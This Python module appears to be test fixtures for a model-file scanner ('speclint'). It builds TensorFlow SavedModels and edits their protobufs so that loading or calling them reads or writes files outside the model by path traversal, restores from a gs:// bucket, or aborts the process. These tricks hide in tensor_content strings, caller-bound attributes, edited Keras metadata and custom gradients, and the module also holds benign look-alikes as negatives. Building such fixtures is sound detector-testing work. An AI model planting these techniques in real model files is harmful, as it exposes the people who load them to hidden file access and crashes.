"""Models of issue 21: values the old scan did not resolve, roots it did not know, and look-alikes.

Built with real TensorFlow (and post-edited the way an attacker edits a SavedModel's protos,
which TensorFlow then loads): each attack reads, writes or reaches outside under TARGET, or ends
the process, when a consumer loads or calls it; each look-alike must stay quiet. The model
directory and TARGET are siblings (``<root>/models/<name>`` and ``<root>/target``), so a path
climbing four levels up from the model's ``variables/variables`` lands in TARGET.
``load_held_out.py`` proves what each does; ``test_evasion.py`` checks speclint's verdict.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from typing import Any

SIZE = 8
FEATURES = 4
IMAGES = "images"
CLIMB = "/../../../.."  # from <root>/models/<name>/variables/variables up to <root>
SECRET_TEXT = "speclint secret line"
PROTO_TYPE = "speclint.Secret"  # defined only in the descriptor file the attack names


def _tf() -> Any:
    import tensorflow as tf

    return tf


# ---- helpers -----------------------------------------------------------------------------------
def _tf1_graph(tf: Any) -> tuple[Any, Any, Any, Any]:
    graph = tf.Graph()
    with graph.as_default():
        images = tf.compat.v1.placeholder(tf.float32, [None, SIZE, SIZE, 3], name=IMAGES)
        kernel = tf.compat.v1.get_variable("kernel", initializer=tf.ones([3, FEATURES]) * 0.1)
        features = tf.identity(tf.matmul(tf.reduce_mean(images, axis=[1, 2]), kernel), name="features")
    return graph, images, features, kernel


def _save_tf1(tf: Any, graph: Any, path: str, images: Any, outputs: dict[str, Any], **options: Any) -> None:
    v1 = tf.compat.v1
    with graph.as_default(), v1.Session(graph=graph) as session:
        session.run(v1.global_variables_initializer())
        session.run(v1.tables_initializer())
        builder = v1.saved_model.Builder(path)
        signature = v1.saved_model.predict_signature_def({IMAGES: images}, outputs)
        builder.add_meta_graph_and_variables(session, ["serve"], signature_def_map={"default": signature}, **options)
        builder.save()


def _restore_op_also_runs(tf: Any, graph: Any, saver: Any, *ops: Any) -> None:
    """Make the saver's restore op (which every TF1 loader runs at load) run ``ops`` too."""
    with graph.as_default():
        original = graph.get_operation_by_name(saver.saver_def.restore_op_name)
        with graph.name_scope("save/"):
            restore = tf.group(original, *ops, name="restore_everything")
        saver.saver_def.restore_op_name = restore.name


def _saved_model(path: str) -> Any:
    from tensorflow.core.protobuf import saved_model_pb2

    saved = saved_model_pb2.SavedModel()
    with open(os.path.join(path, "saved_model.pb"), "rb") as handle:
        saved.ParseFromString(handle.read())
    return saved


def _write_saved_model(path: str, saved: Any) -> None:
    with open(os.path.join(path, "saved_model.pb"), "wb") as handle:
        handle.write(saved.SerializeToString())


def _pack_string_constant(path: str, marker: bytes, value: bytes) -> None:
    """Move a string constant's bytes from ``string_val`` into ``tensor_content`` (TensorFlow reads both)."""
    saved = _saved_model(path)
    found = 0
    for meta_graph in saved.meta_graphs:
        scopes = [meta_graph.graph_def.node, *(f.node_def for f in meta_graph.graph_def.library.function)]
        for nodes in scopes:
            for node in nodes:
                tensor = node.attr["value"].tensor if node.op == "Const" and "value" in node.attr else None
                if tensor is not None and list(tensor.string_val) == [marker]:
                    tensor.ClearField("string_val")
                    tensor.tensor_content = _varint(len(value)) + value
                    found += 1
    assert found, f"no constant {marker!r}"
    _write_saved_model(path, saved)


def _varint(number: int) -> bytes:
    out = bytearray()
    while True:
        byte = number & 0x7F
        number >>= 7
        out.append(byte | (0x80 if number else 0))
        if not number:
            return bytes(out)


def _bind_by_caller(path: str, op: str, attr: str, value: Any, kind: str) -> None:
    """Turn ``attr`` of every ``op`` node into a placeholder of its function, bound by each call.

    What ``tf.compat.v1`` loaders and TF Serving instantiate: the called function with the
    caller's attributes, so the op gets ``value`` although its own NodeDef names nothing.
    """
    saved = _saved_model(path)
    graph_def = saved.meta_graphs[0].graph_def
    targets = set()
    for function in graph_def.library.function:
        nodes = [node for node in function.node_def if node.op == op]
        for node in nodes:
            node.attr[attr].Clear()
            node.attr[attr].placeholder = "bound_by_caller"
        if nodes:
            definition = function.signature.attr.add()
            definition.name, definition.type = "bound_by_caller", kind
            targets.add(function.signature.name)
    assert targets, f"no {op} in a library function"
    bound = 0
    for nodes in [graph_def.node, *(f.node_def for f in graph_def.library.function)]:
        for node in nodes:
            if node.op in ("PartitionedCall", "StatefulPartitionedCall") and node.attr["f"].func.name in targets:
                node.attr["f"].func.attr["bound_by_caller"].CopyFrom(value)
                bound += 1
    assert bound, f"no call of {sorted(targets)}"
    _write_saved_model(path, saved)


def _tf2_root(tf: Any) -> Any:
    root = tf.__internal__.tracking.AutoTrackable()
    root.kernel = tf.Variable(tf.ones([3, FEATURES]) * 0.1, name="kernel")
    return root


def _save_tf2(tf: Any, root: Any, path: str, call: Any, **options: Any) -> None:
    root.__call__ = call
    root.variables = [root.kernel]
    root.trainable_variables = [root.kernel]
    root.regularization_losses = []
    tf.saved_model.save(root, path, **options)


def _features(tf: Any, root: Any, images: Any) -> Any:
    return tf.matmul(tf.reduce_mean(images, axis=[1, 2]), root.kernel)


def _tf2_with_inner(tf: Any, path: str, inner: Any, spec: Any) -> None:
    """__call__ calls ``inner`` (a tf.function of its own: a call node with a function attribute)."""
    root = _tf2_root(tf)
    _save_tf2(tf, root, path, tf.function(lambda value: inner(value), input_signature=[spec]))


# ---- 1. file names derived from the saver's ------------------------------------------------------
def saver_join_with_separator(path: str, target: str) -> None:
    """The restore op also saves to StringJoin([file name, '_temp/part'], separator=<climb to TARGET>)."""
    tf = _tf()
    graph, images, features, _ = _tf1_graph(tf)
    with graph.as_default():
        saver = tf.compat.v1.train.Saver()
        filename = graph.get_tensor_by_name(saver.saver_def.filename_tensor_name)
        joined = tf.strings.join([filename, "_temp/part"], separator=f"{CLIMB}/target/separator")
        write = tf.raw_ops.SaveV2(prefix=joined, tensor_names=["x"], shape_and_slices=[""], tensors=[tf.constant(1.0)])
    _restore_op_also_runs(tf, graph, saver, write)
    _save_tf1(tf, graph, path, images, {"default": features}, saver=saver)


def saver_suffix_in_tensor_content(path: str, target: str) -> None:
    """The restore op also saves to StringJoin([file name, suffix]) whose suffix sits in ``tensor_content``."""
    tf = _tf()
    graph, images, features, _ = _tf1_graph(tf)
    with graph.as_default():
        saver = tf.compat.v1.train.Saver()
        filename = graph.get_tensor_by_name(saver.saver_def.filename_tensor_name)
        joined = tf.strings.join([filename, tf.constant("SPECLINT-SUFFIX")])
        write = tf.raw_ops.SaveV2(prefix=joined, tensor_names=["x"], shape_and_slices=[""], tensors=[tf.constant(1.0)])
    _restore_op_also_runs(tf, graph, saver, write)
    _save_tf1(tf, graph, path, images, {"default": features}, saver=saver)
    _pack_string_constant(path, b"SPECLINT-SUFFIX", f"{CLIMB}/target/tensor-content".encode())


def saver_gs_prefix(path: str, target: str) -> None:
    """The restore op restores from StringJoin(['', file name], separator='gs://...'): Google Cloud Storage."""
    tf = _tf()
    graph, images, features, _ = _tf1_graph(tf)
    with graph.as_default():
        saver = tf.compat.v1.train.Saver()
        filename = graph.get_tensor_by_name(saver.saver_def.filename_tensor_name)
        remote = tf.strings.join([tf.constant(""), filename], separator="gs://speclint-evasion-bucket")
        read = tf.raw_ops.RestoreV2(prefix=remote, tensor_names=["kernel"], shape_and_slices=[""], dtypes=[tf.float32])
    _restore_op_also_runs(tf, graph, saver, read[0].op)
    _save_tf1(tf, graph, path, images, {"default": features}, saver=saver)


def restore_op_restores_another_checkpoint(path: str, target: str) -> None:
    """The restore op then restores the kernel from a checkpoint outside the model (TARGET/other)."""
    tf = _tf()
    other = tf.Graph()
    with other.as_default(), tf.compat.v1.Session(graph=other) as session:
        kernel = tf.compat.v1.get_variable("kernel", initializer=tf.ones([3, FEATURES]) * 7.0)
        session.run(tf.compat.v1.global_variables_initializer())
        tf.compat.v1.train.Saver().save(session, os.path.join(target, "other"))
    graph, images, features, kernel = _tf1_graph(tf)
    with graph.as_default():
        saver = tf.compat.v1.train.Saver()
        original = graph.get_operation_by_name(saver.saver_def.restore_op_name)
        with tf.control_dependencies([original]):
            other_path = os.path.join(target, "other")
            read = tf.raw_ops.RestoreV2(
                prefix=other_path, tensor_names=["kernel"], shape_and_slices=[""], dtypes=[tf.float32]
            )
            assign = kernel.assign(read[0])
    _restore_op_also_runs(tf, graph, saver, assign.op)
    _save_tf1(tf, graph, path, images, {"default": features}, saver=saver)


# ---- 2. attributes bound by the caller, strings in tensor_content --------------------------------
def _string_attr(value: str) -> Any:
    from tensorflow.core.framework import attr_value_pb2

    return attr_value_pb2.AttrValue(s=value.encode())


def _strings_attr(*values: str) -> Any:
    from tensorflow.core.framework import attr_value_pb2

    attr = attr_value_pb2.AttrValue()
    attr.list.s.extend(value.encode() for value in values)
    return attr


def print_stream_bound_by_caller(path: str, target: str) -> None:
    """PrintV2's output_stream a placeholder of its function; __call__ binds it to file://TARGET/printed.txt."""
    tf = _tf()

    @tf.function
    def inner(images: Any) -> Any:
        tf.print("mean", tf.reduce_mean(images))
        return tf.reduce_mean(images, axis=[1, 2])

    _tf2_with_inner(tf, path, inner, tf.TensorSpec([None, SIZE, SIZE, 3], tf.float32))
    _bind_by_caller(path, "PrintV2", "output_stream", _string_attr(f"file://{target}/printed.txt"), "string")


def _debug_model(path: str, target: str, op: str, directory: str) -> None:
    tf = _tf()

    @tf.function
    def inner(images: Any) -> Any:
        mean = tf.reduce_mean(images, axis=[1, 2])
        if op == "DebugIdentityV2":
            return tf.raw_ops.DebugIdentityV2(
                input=mean, tfdbg_context_id="ctx", op_name="mean", output_slot=0, tfdbg_run_id="run"
            )
        return tf.raw_ops.DebugIdentity(input=mean, device_name="", tensor_name="mean:0")

    _tf2_with_inner(tf, path, inner, tf.TensorSpec([None, SIZE, SIZE, 3], tf.float32))
    _bind_by_caller(path, op, "debug_urls", _strings_attr(f"file://{target}/{directory}"), "list(string)")


def debug_urls_bound_by_caller(path: str, target: str) -> None:
    """DebugIdentityV2's debug_urls a placeholder; __call__ binds it to file://TARGET/tfdbg: dumps are written."""
    _debug_model(path, target, "DebugIdentityV2", "tfdbg")


def debug_v1_urls_bound_by_caller(path: str, target: str) -> None:
    """The same with the tfdbg v1 DebugIdentity (the other Debug* ops alike)."""
    _debug_model(path, target, "DebugIdentity", "tfdbg-v1")


def _proto_model(path: str, target: str, op: str) -> None:
    tf = _tf()

    @tf.function
    def inner(text: Any) -> Any:
        if op == "DecodeProtoV2":
            _, values = tf.io.decode_proto(
                bytes=text, message_type=PROTO_TYPE, field_names=["text"], output_types=[tf.string]
            )
            return values[0]
        sizes = tf.ones([tf.shape(text)[0], 1], tf.int32)
        return tf.io.encode_proto(
            sizes=sizes, values=[tf.reshape(text, [-1, 1])], field_names=["text"], message_type=PROTO_TYPE
        )

    _tf2_with_inner(tf, path, inner, tf.TensorSpec([None], tf.string))
    _bind_by_caller(path, op, "descriptor_source", _string_attr(os.path.join(target, "secret.desc")), "string")


def descriptor_source_bound_by_caller(path: str, target: str) -> None:
    """DecodeProtoV2's descriptor_source bound by the caller to TARGET/secret.desc, a file it reads."""
    _proto_model(path, target, "DecodeProtoV2")


def encode_proto_bound_by_caller(path: str, target: str) -> None:
    """EncodeProto's descriptor_source bound by the caller to TARGET/secret.desc."""
    _proto_model(path, target, "EncodeProto")


def vocab_file_bound_by_caller(path: str, target: str) -> None:
    """FixedUnigramCandidateSampler's vocab_file bound by the caller to TARGET/vocab.csv."""
    tf = _tf()

    @tf.function
    def inner(classes: Any) -> Any:
        sampled = tf.raw_ops.FixedUnigramCandidateSampler(
            true_classes=classes, num_true=1, num_sampled=5, unique=False, range_max=3
        )  # no vocab_file and no unigrams: only the caller's binding makes it run
        return sampled[0]

    _tf2_with_inner(tf, path, inner, tf.TensorSpec([None, 1], tf.int64))
    _bind_by_caller(path, "FixedUnigramCandidateSampler", "vocab_file", _string_attr(f"{target}/vocab.csv"), "string")


def cache_file_in_tensor_content(path: str, target: str) -> None:
    """__call__ caches a dataset in a file whose name is in tensor_content (string_val empty: 'in memory')."""
    tf = _tf()
    root = _tf2_root(tf)

    @tf.function(input_signature=[tf.TensorSpec([None, SIZE, SIZE, 3], tf.float32)])
    def call(images: Any) -> Any:
        total = tf.data.Dataset.range(4).cache("SPECLINT-CACHE").reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
        return _features(tf, root, images) + tf.cast(total, tf.float32) * 0.0

    _save_tf2(tf, root, path, call)
    _pack_string_constant(path, b"SPECLINT-CACHE", f"{target}/cache".encode())


# ---- 3. Keras layers tf_keras rebuilds from their config -----------------------------------------
def _edit_keras_metadata(path: str, old: str, new: str) -> None:
    from tf_keras.protobuf import saved_metadata_pb2

    metadata = saved_metadata_pb2.SavedMetadata()
    file = os.path.join(path, "keras_metadata.pb")
    with open(file, "rb") as handle:
        metadata.ParseFromString(handle.read())
    edited = 0
    for node in metadata.nodes:
        if old in node.metadata:
            node.metadata = node.metadata.replace(old, new)
            edited += 1
    assert edited, old
    with open(file, "wb") as handle:
        handle.write(metadata.SerializeToString())


def tfoplambda_reads_file(path: str, target: str) -> None:
    """A tf_keras model: TFOpLambda strings.strip edited to io.read_file (the graph keeps StringStrip)."""
    tf = _tf()
    import tf_keras

    tf_keras.backend.clear_session()
    text = tf_keras.Input(shape=(), dtype=tf.string, name="text")
    name = tf.reshape(tf.strings.regex_replace(text, ".*", f"{target}/secret.txt", replace_global=False), [])
    model = tf_keras.Model(text, tf.strings.strip(name))
    model.save(path, save_format="tf")
    _edit_keras_metadata(path, '"function": "strings.strip"', '"function": "io.read_file"')


def _lookup_model(path: str, vocabulary: Any) -> None:
    tf = _tf()
    import tf_keras

    tf_keras.backend.clear_session()
    words = tf_keras.Input(shape=(1,), dtype=tf.string, name="words")
    model = tf_keras.Model(words, tf_keras.layers.StringLookup(vocabulary=vocabulary, name="lookup")(words))
    model.save(path, save_format="tf")


def string_lookup_vocabulary_path(path: str, target: str) -> None:
    """StringLookup from a vocabulary file (saved as the model's asset; config vocabulary null), the config
    then edited to name a path outside the model (TARGET/vocabulary.txt)."""
    source = os.path.join(os.path.dirname(path), "lookup-source.txt")
    with open(source, "w", encoding="utf-8") as handle:
        handle.write("a\nb\nc\n")
    _lookup_model(path, source)
    os.remove(source)
    _edit_keras_metadata(path, '"vocabulary": null', f'"vocabulary": "{target}/vocabulary.txt"')


# ---- 4. ending the process ----------------------------------------------------------------------------
def abort_in_serving_function(path: str, target: str) -> None:
    """__call__ (and serving_default) run Abort(exit_without_error) on an image batch whose sum is huge."""
    tf = _tf()
    root = _tf2_root(tf)

    @tf.function(input_signature=[tf.TensorSpec([None, SIZE, SIZE, 3], tf.float32)])
    def call(images: Any) -> Any:
        def abort() -> Any:  # Abort is not stateful: without the dependency TensorFlow prunes it
            with tf.control_dependencies([tf.raw_ops.Abort(error_msg="speclint evasion", exit_without_error=True)]):
                return tf.constant(0.0)

        flag = tf.cond(tf.reduce_sum(images) > 1e9, abort, lambda: tf.constant(0.0))
        return _features(tf, root, images) + flag

    _save_tf2(tf, root, path, call)


# ---- roots: what runs when a consumer fine-tunes; what never runs --------------------------------
def gradient_function_writes(path: str, target: str) -> None:
    """A custom gradient saved with the model writes TARGET/gradient.txt: run when a consumer fine-tunes."""
    tf = _tf()
    root = _tf2_root(tf)

    @tf.custom_gradient
    def leaky(features: Any) -> Any:
        def gradient(upstream: Any) -> Any:
            write = tf.io.write_file(f"{target}/gradient.txt", "written")
            with tf.control_dependencies([write]):
                return tf.identity(upstream)

        return tf.identity(features), gradient

    call = tf.function(
        lambda images: leaky(_features(tf, root, images)),
        input_signature=[tf.TensorSpec([None, SIZE, SIZE, 3], tf.float32)],
    )
    _save_tf2(tf, root, path, call, options=tf.saved_model.SaveOptions(experimental_custom_gradients=True))


def stray_saver_never_runs(path: str, target: str) -> None:
    """TF1: a second Saver (export code's own) whose file name is TARGET/stray: no loader runs it."""
    tf = _tf()
    graph, images, features, kernel = _tf1_graph(tf)
    with graph.as_default():
        tf.compat.v1.train.Saver(var_list=[kernel], filename=os.path.join(target, "stray"), name="training_saver")
        lines = tf.data.TextLineDataset(os.path.join(target, "train.txt"))  # a training input pipeline
        tf.compat.v1.data.make_one_shot_iterator(lines).get_next(name="training_batch")
    _save_tf1(tf, graph, path, images, {"default": features})


# ---- look-alikes that must stay quiet -----------------------------------------------------------
def sharded_tf1_saver(path: str, target: str) -> None:
    """TF1 Builder with tf.compat.v1.train.Saver(sharded=True): the V2 sharded save structure."""
    tf = _tf()
    graph, images, features, _ = _tf1_graph(tf)
    with graph.as_default():
        saver = tf.compat.v1.train.Saver(sharded=True)
    _save_tf1(tf, graph, path, images, {"default": features}, saver=saver)


def in_memory_cache(path: str, target: str) -> None:
    """__call__ caches a dataset in memory (dataset.cache(): file name '')."""
    tf = _tf()
    root = _tf2_root(tf)

    @tf.function(input_signature=[tf.TensorSpec([None, SIZE, SIZE, 3], tf.float32)])
    def call(images: Any) -> Any:
        total = tf.data.Dataset.range(4).cache().reduce(tf.constant(0, tf.int64), lambda a, b: a + b)
        return _features(tf, root, images) + tf.cast(total, tf.float32) * 0.0

    _save_tf2(tf, root, path, call)


def print_to_stderr(path: str, target: str) -> None:
    """__call__ runs tf.print (to stderr, its default)."""
    tf = _tf()
    root = _tf2_root(tf)

    @tf.function(input_signature=[tf.TensorSpec([None, SIZE, SIZE, 3], tf.float32)])
    def call(images: Any) -> Any:
        tf.print("speclint-mean", tf.reduce_mean(images))
        return _features(tf, root, images)

    _save_tf2(tf, root, path, call)


def string_lookup_in_model_vocabulary(path: str, target: str) -> None:
    """StringLookup with its vocabulary given as a list (saved in the model)."""
    _lookup_model(path, ["a", "b", "c"])


def tfx_vocabulary_asset(path: str, target: str) -> None:
    """TF1 (TFX/estimator style): a vocabulary table read from an AssetFileDef asset by the main op."""
    tf = _tf()
    v1 = tf.compat.v1
    source = os.path.join(os.path.dirname(path), "vocabulary-source.txt")
    with open(source, "w", encoding="utf-8") as handle:
        handle.write("cat\ndog\nbird\n")
    graph = tf.Graph()
    with graph.as_default():
        words = v1.placeholder(tf.string, [None], name="words")
        asset = tf.constant(source, name="vocabulary_asset")
        v1.add_to_collection(v1.GraphKeys.ASSET_FILEPATHS, asset)
        table = v1.lookup.StaticHashTable(
            v1.lookup.TextFileInitializer(asset, tf.string, -2, tf.int64, -1), default_value=-1
        )
        ids = tf.identity(table.lookup(words), name="ids")
        with v1.Session(graph=graph) as session:
            session.run(v1.tables_initializer())
            builder = v1.saved_model.Builder(path)
            signature = v1.saved_model.predict_signature_def({"words": words}, {"ids": ids})
            builder.add_meta_graph_and_variables(
                session,
                ["serve"],
                signature_def_map={"default": signature},
                assets_collection=v1.get_collection(v1.GraphKeys.ASSET_FILEPATHS),
                main_op=v1.tables_initializer(),
            )
            builder.save()
    os.remove(source)  # from here on the model can only read its own copy under assets/


def tf2_vocabulary_asset(path: str, target: str) -> None:
    """TF2: a StaticHashTable from a TextFileInitializer, which tf.saved_model.save copies into assets/."""
    tf = _tf()
    source = os.path.join(os.path.dirname(path), "tf2-vocabulary-source.txt")
    with open(source, "w", encoding="utf-8") as handle:
        handle.write("cat\ndog\nbird\n")
    root = tf.__internal__.tracking.AutoTrackable()
    root.table = tf.lookup.StaticHashTable(
        tf.lookup.TextFileInitializer(source, tf.string, -2, tf.int64, -1), default_value=-1
    )
    spec = tf.TensorSpec([None], tf.string)
    root.__call__ = tf.function(lambda words: root.table.lookup(words), input_signature=[spec])
    tf.saved_model.save(root, path)
    os.remove(source)


MODELS: dict[str, Callable[[str, str], None]] = {
    "saver-join-with-separator": saver_join_with_separator,
    "saver-suffix-in-tensor-content": saver_suffix_in_tensor_content,
    "saver-gs-prefix": saver_gs_prefix,
    "restore-op-restores-another-checkpoint": restore_op_restores_another_checkpoint,
    "print-stream-bound-by-caller": print_stream_bound_by_caller,
    "debug-urls-bound-by-caller": debug_urls_bound_by_caller,
    "debug-v1-urls-bound-by-caller": debug_v1_urls_bound_by_caller,
    "descriptor-source-bound-by-caller": descriptor_source_bound_by_caller,
    "encode-proto-bound-by-caller": encode_proto_bound_by_caller,
    "vocab-file-bound-by-caller": vocab_file_bound_by_caller,
    "cache-file-in-tensor-content": cache_file_in_tensor_content,
    "tfoplambda-reads-file": tfoplambda_reads_file,
    "string-lookup-vocabulary-path": string_lookup_vocabulary_path,
    "abort-in-serving-function": abort_in_serving_function,
    "gradient-function-writes": gradient_function_writes,
    "stray-saver-never-runs": stray_saver_never_runs,
    "sharded-tf1-saver": sharded_tf1_saver,
    "in-memory-cache": in_memory_cache,
    "print-to-stderr": print_to_stderr,
    "string-lookup-in-model-vocabulary": string_lookup_in_model_vocabulary,
    "tfx-vocabulary-asset": tfx_vocabulary_asset,
    "tf2-vocabulary-asset": tf2_vocabulary_asset,
}
QUIET = frozenset(
    {
        "sharded-tf1-saver",
        "in-memory-cache",
        "print-to-stderr",
        "string-lookup-in-model-vocabulary",
        "tfx-vocabulary-asset",
        "tf2-vocabulary-asset",
    }
)  # look-alikes: no SL6 finding at all
